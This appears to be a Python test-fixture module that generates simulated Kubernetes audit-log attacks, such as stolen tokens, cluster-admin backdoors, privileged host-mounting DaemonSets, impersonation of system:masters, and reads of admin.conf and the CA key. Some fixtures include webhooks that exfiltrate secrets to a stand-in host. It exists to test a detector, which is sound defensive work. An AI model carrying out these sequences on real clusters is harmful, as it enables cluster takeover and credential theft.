"""The attack that stands in the same log, two hours after what is ordinary: each must still be found, at medium at least.
An attack gives the name by which a finding must know its actor."""
from cluster import after, at, binding, pod_spec, role, workload
from happenings import EVERYTHING, WATCHER, attempts, daemon, guard, installer, into_kube_system, looks_around, nightly, opens_a_dashboard, version_operator, webhook, worked

ALL = []
TWINS = {}  # a happening's name → an attack of the same shape, which must be found at high
T = at(13)


def attack(function):
    ALL.append((function.__name__.replace("_", "-"), function))
    return function


def twin_of(*happenings):
    def add(function):
        for happening in happenings:
            TWINS[happening] = (function.__name__.replace("_", "-"), function)
        return function
    return add


def namespace_of(c, who):
    return "shop" if c.name == "shop" else who.user["groups"][0].removeprefix("team-")


@attack
def stolen_pod_token_reads_secrets(c):
    thief = c.certs.but(ip="203.0.113.9", agent="curl/8.5.0")
    c.do(T, thief, "list", "secrets", query="limit=500")
    for i in range(4):
        c.do(after(T, 5 + i), thief, "get", "secrets", c.namespaces[i % len(c.namespaces)], ["db-password", "registry", "app-config", "web-tls"][i])
    return thief.name


@attack
def stolen_login_of_a_developer_reaches_out(c):
    thief = c.devs[-1].but(ip="198.18.7.7", agent="python-requests/2.31.0")
    ns = namespace_of(c, thief)
    c.do(T, thief, "create", "selfsubjectrulesreviews", code=201)
    c.do(after(T, 5), thief, "list", "secrets", ns)
    for i in range(6):
        c.do(after(T, 10 + i), thief, "list", ["secrets", "pods", "clusterroles", "nodes", "namespaces", "secrets"][i], code=403, reason="")
    for i in range(3):
        c.do(after(T, 20 + i), thief, "get", "secrets", ns, ["db-password", "db", "app-config"][i])
    return thief.name


@twin_of("identity-provider-gives-new-names-to-all")
def new_name_of_an_admin_comes_from_abroad(c):
    old = c.admins[1]
    thief = old.but(ip="203.0.113.40", agent="curl/8.5.0", grant=old.grant.replace('Group "', 'Group "oidc:'))
    thief.user = dict(old.user, username="oidc:" + old.name.split("@")[0] + "2", groups=["oidc:" + old.user["groups"][0], "system:authenticated"])
    c.do(T, thief, "list", "secrets", "kube-system")
    c.do(after(T, 5), thief, "get", "secrets", "kube-system", "bootstrap-token-abcdef")
    c.do(after(T, 9), thief, "create", "clusterrolebindings", name="keep", body=binding("ClusterRoleBinding", "keep", "cluster-admin", [{"kind": "User", "name": thief.name}]))
    return thief.name


@twin_of("developer-opens-a-dashboard")
def login_of_a_developer_opens_a_dashboard_from_abroad(c):
    thief = c.devs[0].but(ip="203.0.113.41", agent="Headlamp/0.28.0 (linux/amd64)")
    opens_a_dashboard(c, thief, T)
    return thief.name


@twin_of("admin-tries-k9s")
def program_sees_all_secrets_and_gives_rights(c):
    """From its own Pod, with its own client, and in two steps."""
    who = c.prometheus
    c.do(T, who, "list", "secrets", query="limit=500&resourceVersion=0")
    c.do(after(T, 600), who, "create", "clusterrolebindings", name="metrics", body=binding("ClusterRoleBinding", "metrics", "metrics", [
        {"kind": "ServiceAccount", "name": "default", "namespace": c.namespaces[0]}]))
    return who.name


@twin_of("admin-tries-a-desktop-client")
def login_of_an_admin_looks_around_from_abroad(c):
    thief = c.admins[1].but(ip="203.0.113.44")
    looks_around(c, thief, "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", T)
    return thief.name


@twin_of("admin-works-from-office-and-vpn")
def copied_login_of_an_admin_is_used_in_turn(c):
    """With her client, beside her work of the afternoon."""
    who = c.admins[1]
    thief = who.but(ip="203.0.113.45")
    for i in range(6):
        c.do(after(T, 180 * i), [who, thief][i % 2], "list", "pods", c.namespaces[0])
    c.do(after(T, 1200), thief, "list", "secrets", query="limit=500")
    c.do(after(T, 1210), thief, "create", "serviceaccounts", "kube-system", "clusterrole-aggregation-controller", "token")
    return who.name


@twin_of("pod-is-debugged-with-an-ephemeral-container")
def developer_debugs_a_pod_with_more_than_it_has(c):
    who = c.devs[-1]
    ns, pod = namespace_of(c, who), f"web-{c.hex(9)}-{c.token()}"
    c.do(T, who, "patch", "pods", ns, pod, "ephemeralcontainers", body={"spec": {"ephemeralContainers": [
        {"name": "d", "image": "busybox", "targetContainerName": "main", "securityContext": {"privileged": True}}]}})
    c.do(after(T, 4), who, "create", "pods", ns, pod, "exec", query="container=d&command=nsenter&command=-t&command=1&command=-m&command=sh")
    return who.name


@twin_of("operator-does-what-an-admin-asked-for")
def token_of_an_operator_opens_a_node(c):
    """Minutes after somebody asked its operator for something."""
    c.do(T, c.admins[0], "patch", "policies", name="main", group="accelerators.example.io", body={"spec": {}})
    thief = c.account("accelerators", "operator", "10.244.2.99", "curl/8.5.0", "accelerators", "accelerators")
    c.do(after(T, 60), thief, "create", "daemonsets", "accelerators", "helper",
         body=daemon("helper", "accelerators", "operator", privileged=True, paths=("/",), hostPID=True))
    return thief.name


@twin_of("volume-is-made-of-a-folder")
def volume_of_the_keys_is_made(c):
    thief = c.account("kube-system", "folder-provisioner", "10.244.1.90", "folder-provisioner/v0.0.28 (linux/amd64)", "folders", "folders")
    c.do(T, thief, "create", "persistentvolumes", name="pvc-1d0e1c33-0a4c-4b1b-9b0a-3f0d5b9b9d52",
         body={"kind": "PersistentVolume", "apiVersion": "v1", "spec": {"hostPath": {"path": "/var/lib/rancher/k3s/storage/../server"}}})
    c.do(after(T, 3), thief.but(ip="203.0.113.43", agent="curl/8.5.0"), "list", "secrets")
    return thief.name


@twin_of("distribution-upgrades-itself")
def token_of_a_distribution_is_used_from_a_pod(c):
    thief = version_operator(c, "10.244.2.98", "curl/8.5.0")
    c.do(T, thief, "update", "clusterrolebindings", name="insights", body=binding("ClusterRoleBinding", "insights", "cluster-admin", [
        {"kind": "ServiceAccount", "name": "helper", "namespace": "of-insights"}]))
    return thief.name


@twin_of("kubeadm-uploads-certificates")
def login_of_kubeadm_reads_the_keys_from_abroad(c):
    thief = c.root.but(ip="203.0.113.42", agent="kubeadm/v1.32.2 (linux/amd64) kubernetes/67a30c0")
    c.do(T, thief, "get", "secrets", "kube-system", "kubeadm-certs")
    c.do(after(T, 4), thief, "list", "secrets", "kube-system")
    c.do(after(T, 9), thief, "create", "clusterrolebindings", name="keep", body=binding("ClusterRoleBinding", "keep", "cluster-admin", [{"kind": "User", "name": "eve"}]))
    return thief.name


@attack
def pipeline_makes_itself_admin(c):
    who = c.deployer
    c.do(T, who, "create", "clusterrolebindings", name="ci-fix", body=binding("ClusterRoleBinding", "ci-fix", "cluster-admin", [
        {"kind": "ServiceAccount", "name": who.name.split(":")[-1], "namespace": "ci"}]))
    mighty = who.but(grant=f'RBAC: allowed by ClusterRoleBinding "ci-fix" of ClusterRole "cluster-admin" to ServiceAccount "{who.name.split(":")[-1]}/ci"')
    for i in range(3):
        c.do(after(T, 10 + i), mighty, "list", "secrets", ["", "kube-system", "monitoring"][i])
    return who.name


@attack
def anonymous_is_let_in(c):
    c.do(T, c.admins[1], "create", "clusterrolebindings", name="public", body=binding("ClusterRoleBinding", "public", "view", [{"kind": "Group", "name": "system:unauthenticated"}]))
    reason = 'RBAC: allowed by ClusterRoleBinding "public" of ClusterRole "view" to Group "system:unauthenticated"'
    for i in range(3):
        c.do(after(T, 20 + i), c.nobody("198.51.100.200", "curl/8.5.0"), "list", ["pods", "configmaps", "services"][i], c.namespaces[0], reason=reason)
    return "anonymous"


@attack
def developer_plays_the_masters(c):
    who = c.devs[-1]
    c.do(T, who, "list", "secrets", "kube-system", acts_as={"username": "root", "groups": ["system:masters", "system:authenticated"]}, reason="")
    c.do(after(T, 4), who, "get", "secrets", "kube-system", "bootstrap-token-abcdef", acts_as={"username": "root", "groups": ["system:masters", "system:authenticated"]}, reason="")
    return who.name


@attack
def pod_that_owns_the_node(c):
    who = c.devs[-1]
    ns = namespace_of(c, who)
    c.do(T, who, "create", "pods", ns, "tools", body={"kind": "Pod", "metadata": {"name": "tools"}, "spec": pod_spec(
        "alpine", hostPID=True, volumes=[{"name": "root", "hostPath": {"path": "/"}}])})
    c.do(after(T, 5), who, "create", "pods", ns, "tools", "exec", query="command=chroot&command=%2Fhost&command=cat&command=%2Fetc%2Fkubernetes%2Fadmin.conf")
    return who.name


@attack
def commands_through_the_kubelet(c):
    who = c.prometheus.but(ip="10.244.8.8", agent="curl/8.5.0")
    name = c.nodes[0][0]
    c.do(T, who, "create", "nodes", name=name, sub="proxy", code=201)
    c.do(after(T, 3), who, "get", "nodes", name=name, sub="proxy")
    c.do(after(T, 6), who, "list", "secrets", "kube-system")
    return who.name


@attack
def token_of_a_controller_is_asked_for(c):
    who = c.devs[-1].but(grant="")
    c.do(T, who, "create", "serviceaccounts", "kube-system", "clusterrole-aggregation-controller", "token")
    played = c.account("kube-system", "clusterrole-aggregation-controller", who.ip, who.agent)
    c.do(after(T, 10), played, "patch", "clusterroles", name="edit", body={"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]})
    c.do(after(T, 15), played, "list", "secrets")
    return who.name


@attack
def everything_is_deleted(c):
    who = c.deployer.but(ip="10.244.9.9", agent="curl/8.5.0")
    for i, ns in enumerate(c.namespaces[:3]):
        c.do(after(T, i), who, "deletecollection", "deployments", ns)
        c.do(after(T, i + 0.5), who, "deletecollection", "secrets", ns)
    c.do(after(T, 9), who, "delete", "namespaces", c.namespaces[0], c.namespaces[0])
    return who.name


@attack
def backdoor_by_a_new_account(c):
    who = c.admins[1].but(ip="203.0.113.50", agent="curl/8.5.0")
    c.do(T, who, "create", "serviceaccounts", "kube-system", "node-helper", body={"metadata": {"name": "node-helper"}})
    c.do(after(T, 2), who, "create", "clusterrolebindings", name="node-helper", body=binding("ClusterRoleBinding", "node-helper", "cluster-admin", [
        {"kind": "ServiceAccount", "name": "node-helper", "namespace": "kube-system"}]))
    c.do(after(T, 4), who, "create", "serviceaccounts", "kube-system", "node-helper", "token")
    return who.name


@attack
def certificate_for_the_masters(c):
    who = c.devs[-1].but(grant="")
    c.do(T, who, "create", "certificatesigningrequests", name="me", body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client", "groups": ["system:masters"]}})
    c.do(after(T, 5), who, "update", "certificatesigningrequests", name="me", sub="approval")
    return who.name


@attack
def token_of_the_monitoring_is_used_elsewhere(c):
    who = c.prometheus.but(ip="203.0.113.44", agent="kubectl/v1.30.0 (linux/amd64) kubernetes/aaaaaaa")
    c.do(T, who, "list", "secrets")
    c.do(after(T, 3), who, "get", "secrets", "kube-system", "bootstrap-token-abcdef")
    return who.name


@attack
def webhook_sends_every_secret_outside(c):
    who = c.admins[1].but(ip="198.51.100.66")
    c.do(T, who, "create", "mutatingwebhookconfigurations", name="metrics", body={"webhooks": [{
        "name": "m.example", "failurePolicy": "Ignore", "clientConfig": {"url": "https://collector.example/x"},
        "rules": [{"apiGroups": [""], "resources": ["secrets"], "operations": ["*"]}]}]})
    return who.name


@attack
def commands_for_everybody(c):
    c.do(T, c.deployer, "create", "clusterroles", name="help", body=role("ClusterRole", "help", [{"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]}]))
    c.do(after(T, 2), c.deployer, "create", "clusterrolebindings", name="help", body=binding("ClusterRoleBinding", "help", "help", [{"kind": "Group", "name": "system:authenticated"}]))
    return c.deployer.name


@attack
def developer_asks_and_then_acts_as_another(c):
    who = c.devs[-1]
    other = {"username": "system:serviceaccount:kube-system:generic-garbage-collector", "groups": ["system:serviceaccounts", "system:authenticated"]}
    for i in range(5):
        c.do(after(T, i), who, "create", "selfsubjectrulesreviews", code=201, acts_as=other)
    c.do(after(T, 9), who, "list", "secrets", acts_as=other, reason="")
    return who.name


@attack
def login_of_an_admin_reads_the_releases_from_abroad(c):
    who = c.admins[0].but(ip="198.18.9.9", agent="Helm/3.15.0")
    c.do(T, who, "list", "secrets", query="labelSelector=owner%3Dhelm")
    c.do(after(T, 4), who, "list", "secrets", query="labelSelector=owner%21%3Dhelm")
    return who.name


@attack
def role_of_everyone_grows(c):
    who = c.admins[1].but(ip="203.0.113.80")
    little = [{"apiGroups": ["vms.example"], "resources": ["machines"], "verbs": ["get"]}]
    c.do(T, who, "create", "clusterroles", name="vms:view", body=role("ClusterRole", "vms:view", little))
    c.do(after(T, 1), who, "create", "clusterrolebindings", name="vms:view", body=binding("ClusterRoleBinding", "vms:view", "vms:view", [{"kind": "Group", "name": "system:authenticated"}]))
    c.do(after(T, 9), who, "update", "clusterroles", name="vms:view", body=role("ClusterRole", "vms:view", little + [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}]))
    return who.name


@attack
def account_of_an_operator_leaves_its_work(c):
    who = c.certs
    c.do(T, who, "create", "serviceaccounts", "kube-system", "clusterrole-aggregation-controller", "token")
    c.do(after(T, 1), who, "create", "pods", "kube-system", "etcd-cp1", "exec", query="command=sh&command=-c&command=cat+%2Fetc%2Fkubernetes%2Fpki%2Fca.key")
    return who.name


@attack
def certificate_of_a_node_is_used_from_a_pod(c):
    who = c.kubelets[0].but(ip="10.244.8.88", agent="kubectl/v1.30.0 (linux/amd64) kubernetes/aaaaaaa")
    for i in range(4):
        c.do(after(T, i), who, "get", "secrets", c.namespaces[i % 2], ["db", "registry", "app-config", "tls"][i])
    c.do(after(T, 6), who, "create", "serviceaccounts", "kube-system", "default", "token")
    return who.name


# ---- attacks of the shape of an installation

def on_every_node(c, who, ns, verb="create"):
    body = workload("DaemonSet", "node-health", ns, "registry/health:1", hostPID=True, hostNetwork=True, volumes=[{"name": "host", "hostPath": {"path": "/"}}])
    body["spec"]["template"]["spec"]["containers"][0]["securityContext"] = {"privileged": True}
    c.do(T, who, verb, "daemonsets", ns, "node-health", code=201, body=body)


@twin_of("network-plugin-is-installed", "exporter-of-every-node-is-installed")
def login_of_an_admin_opens_every_node_from_abroad(c):
    who = c.admins[0].but(ip="198.18.9.9", agent="python-requests/2.31.0")
    on_every_node(c, who, "kube-system")
    c.do(after(T, 20), who, "create", "pods", "kube-system", f"node-health-{c.token()}", "exec", query="command=sh")
    return who.name


@twin_of("network-plugin-is-installed-in-kube-system", "watcher-of-the-kernel-is-installed")
def developer_opens_every_node(c):
    who = c.devs[-1]
    on_every_node(c, who, namespace_of(c, who))
    return who.name


@twin_of("network-plugin-is-synced", "storage-driver-with-a-plugin-on-each-node-is-installed")
def pipeline_opens_every_node(c):
    who = c.deployer.but(agent="curl/8.5.0")
    on_every_node(c, who, c.namespaces[0])
    return who.name


@twin_of("exporter-of-every-node-is-synced")
def token_of_the_gitops_controller_opens_every_node(c):
    who = installer(c).but(ip="10.244.8.77", agent="kubectl/v1.30.0 (linux/amd64) kubernetes/aaaaaaa")
    on_every_node(c, who, c.namespaces[0], "patch")
    return who.name


@twin_of("operator-with-all-verbs-is-synced")
def token_of_the_gitops_controller_gives_everything(c):
    who = installer(c).but(ip="10.244.8.77", agent="curl/8.5.0")
    c.do(T, who, "create", "clusterroles", name="metrics-reader", body=role("ClusterRole", "metrics-reader", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]))
    c.do(after(T, 2), who, "create", "clusterrolebindings", name="metrics-reader", body=binding("ClusterRoleBinding", "metrics-reader", "metrics-reader", [
        {"kind": "ServiceAccount", "name": "default", "namespace": c.namespaces[0]}]))
    return who.name


@twin_of("operator-with-all-verbs-is-installed")
def pipeline_makes_a_role_that_may_do_everything(c):
    who = c.deployer
    ns = c.namespaces[0]
    c.do(T, who, "create", "roles", ns, "helper", body=role("Role", "helper", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}], ns))
    return who.name


@twin_of("support-bundle-is-gathered")
def pipeline_gathers_everything(c):
    who, ns = c.deployer, "support-gather-x7k2p"
    c.do(T, who, "create", "namespaces", ns, ns, body={"metadata": {"name": ns}})
    c.do(after(T, 1), who, "create", "clusterrolebindings", name="gather-x7k2p", body=binding("ClusterRoleBinding", "gather-x7k2p", "cluster-admin", [
        {"kind": "ServiceAccount", "name": "default", "namespace": ns}]))
    c.do(after(T, 3), who, "create", "pods", ns, "gather", body={"kind": "Pod", "spec": pod_spec("alpine", hostPID=True, volumes=[{"name": "host", "hostPath": {"path": "/"}}])})
    c.do(after(T, 60), who, "delete", "clusterrolebindings", name="gather-x7k2p")
    c.do(after(T, 61), who, "delete", "namespaces", ns, ns)
    return who.name


@twin_of("node-is-debugged-in-a-namespace-of-its-own")
def login_of_an_admin_gives_all_rights_to_an_old_namespace(c):
    who, ns = c.admins[1], c.namespaces[0]
    c.do(T, who, "create", "clusterrolebindings", name="debug-x7k2p", body=binding("ClusterRoleBinding", "debug-x7k2p", "cluster-admin", [
        {"kind": "ServiceAccount", "name": "default", "namespace": ns}]))
    c.do(after(T, 60), who, "delete", "clusterrolebindings", name="debug-x7k2p")
    return who.name


# ---- attacks of the shape of attempts, of platforms, of certificates and of jobs of the night

@twin_of("attempts-of-an-admin-fail", "attempts-of-an-admin-are-refused-by-admission", "admin-has-lost-a-group-for-an-hour")
def attempts_from_abroad_and_then_it_is_done(c):
    who = c.admins[0].but(ip="203.0.113.61", agent="curl/8.5.0")
    attempts(c, who, T, [404])
    c.do(after(T, 400), who, "list", "secrets")
    c.do(after(T, 410), who, "create", "clusterrolebindings", name="keep", body=binding("ClusterRoleBinding", "keep", "cluster-admin", [{"kind": "User", "name": "eve"}]))
    return who.name


@twin_of("platform-operators-update-their-operands")
def token_of_a_platform_operator_is_used_elsewhere(c):
    who = worked(c, "platform-dns-operator", "dns-operator", "10.244.1.90", "dns-operator/v0 (linux/amd64)", "system:platform:dns", "cluster-admin").but(ip="10.244.7.99", agent="curl/8.5.0")
    c.do(T, who, "update", "secrets", "kube-system", "bootstrap-token-abcdef")
    c.do(after(T, 5), who, "create", "clusterrolebindings", name="dns", body=binding("ClusterRoleBinding", "dns", "cluster-admin", [{"kind": "ServiceAccount", "name": "default", "namespace": c.namespaces[0]}]))
    return who.name


@twin_of("webhook-gets-a-new-certificate-from-its-operator", "webhooks-of-others-get-new-certificates")
def webhook_gets_a_new_address_with_its_certificate(c):
    who = guard(c)
    body = webhook("guard", "guard", "QUJD", clientConfig={"url": "https://collector.example/x", "caBundle": "QUJD"})
    body["webhooks"][0]["rules"] = [{"apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"], "operations": ["*"]}]
    c.do(T, who, "update", "mutatingwebhookconfigurations", name="guard", body=body)
    return who.name


@twin_of("job-of-the-night-runs-for-the-first-time", "job-of-the-night-runs-since-a-week")
def token_of_the_night_is_used_by_day_elsewhere(c):
    who = c.backup.but(ip="10.244.9.91", agent="curl/8.5.0")
    nightly(c, who, T)
    c.do(after(T, 30), who, "get", "secrets", "kube-system", "bootstrap-token-abcdef")
    c.do(after(T, 40), who, "create", "pods", c.namespaces[0], "web-1", "exec", query="command=sh")
    return who.name


@twin_of("autoscaler-is-installed-into-kube-system", "keeper-of-sealed-secrets-is-installed-into-kube-system")
def pipeline_installs_into_kube_system(c):
    into_kube_system(c, c.deployer, "node-helper", [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}], T)
    return c.deployer.name


# ---- attacks of the shape of an owner's work, of jobs that install, of daemons in a second namespace, of a day on the train

@twin_of("owner-of-the-platform-installs-an-operator", "owner-of-the-platform-gives-rights", "owner-of-the-platform-installs-who-never-showed-it")
def login_of_the_owner_is_used_from_abroad(c):
    thief = c.olga.but(ip="203.0.113.77", agent="curl/8.5.0")
    c.do(T, thief, "list", "secrets", query="limit=500")
    c.do(after(T, 5), thief, "create", "clusterrolebindings", name="keep", body=binding("ClusterRoleBinding", "keep", "cluster-admin", [{"kind": "User", "name": "eve"}]))
    on_every_node(c, thief, "kube-system")
    return thief.name


@twin_of("owner-of-the-platform-looks-for-a-fault")
def developer_makes_a_role_that_gives_everything(c):
    """A grant of today, whatever its role gives, and however often it is used."""
    who = c.devs[-1]
    c.do(T, who, "create", "clusterroles", name="owner-of-apps", body=role("ClusterRole", "owner-of-apps", EVERYTHING))
    c.do(after(T, 2), who, "create", "clusterrolebindings", name="owner-of-apps", body=binding("ClusterRoleBinding", "owner-of-apps", "owner-of-apps", [{"kind": "Group", "name": who.user["groups"][0]}]))
    mighty = who.but(grant=f'RBAC: allowed by ClusterRoleBinding "owner-of-apps" of ClusterRole "owner-of-apps" to Group "{who.user["groups"][0]}"')
    for i, name in enumerate(("one", "two")):
        c.do(after(T, 10 + i), mighty, "create", "clusterrolebindings", name=name, body=binding("ClusterRoleBinding", name, "cluster-admin", [{"kind": "ServiceAccount", "name": "default", "namespace": c.namespaces[i]}]))
    on_every_node(c, mighty, "kube-system")
    return who.name


@twin_of("chart-is-installed-by-a-job", "chart-is-installed-by-a-pod-of-a-platform")
def installing_pod_reads_other_secrets(c):
    """The account of an installation, from its own Pod, with its own client."""
    who = c.installer
    c.do(T, who, "list", "secrets", query="limit=500")
    c.do(after(T, 3), who, "get", "secrets", "kube-system", "bootstrap-token-abcdef")
    c.do(after(T, 6), who, "create", "serviceaccounts", "kube-system", "clusterrole-aggregation-controller", "token")
    return who.name


@twin_of("chart-with-an-agent-on-each-node-is-installed-by-a-job")
def installing_pod_makes_a_credential_for_somebody_else(c):
    who = c.installer
    c.do(T, who, "create", "clusterrolebindings", name="keep", body=binding("ClusterRoleBinding", "keep", "cluster-admin", [{"kind": "User", "name": "eve"}]))
    c.do(after(T, 4), who, "create", "certificatesigningrequests", name="eve", body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client"}})
    c.do(after(T, 5), who, "update", "certificatesigningrequests", name="eve", sub="approval")
    return who.name


@twin_of("operator-makes-its-daemons-in-a-second-namespace", "operator-makes-its-daemons-in-kube-system")
def operator_enters_what_it_made_on_the_nodes(c):
    who = c.operator
    c.do(T, who, "create", "daemonsets", c.namespaces[0], "helper", body=daemon("helper", c.namespaces[0], "helper", hostPID=True, **WATCHER))
    c.do(after(T, 30), who, "create", "pods", c.namespaces[0], "helper-" + c.token(), "exec", query="command=nsenter&command=-t&command=1&command=-m&command=sh")
    return who.name


@twin_of("storage-lands-in-two-namespaces", "network-plugin-lands-in-two-namespaces-by-manifests")
def developer_opens_every_node_from_two_namespaces(c):
    who = c.devs[-1]
    on_every_node(c, who, namespace_of(c, who))
    on_every_node(c, who, c.namespaces[1])
    return who.name


@twin_of("developer-reads-a-secret-on-the-first-day-over-a-vpn")
def login_of_a_developer_reads_secrets_from_abroad(c):
    thief = c.devs[0].but(ip="198.18.7.8", agent="python-requests/2.31.0")
    ns = namespace_of(c, thief)
    c.do(T, thief, "get", "secrets", ns, "db-password")
    c.do(after(T, 2), thief, "list", "secrets", ns)
    c.do(after(T, 5), thief, "create", "serviceaccounts", ns, "default", "token")
    return thief.name


@twin_of("admin-reads-a-secret-on-the-first-day-over-a-vpn")
def login_of_an_admin_reads_secrets_from_abroad(c):
    thief = c.admins[1].but(ip="198.18.7.9", agent="curl/8.5.0")
    c.do(T, thief, "list", "secrets", query="limit=500")
    c.do(after(T, 5), thief, "create", "serviceaccounts", "kube-system", "clusterrole-aggregation-controller", "token")
    return thief.name
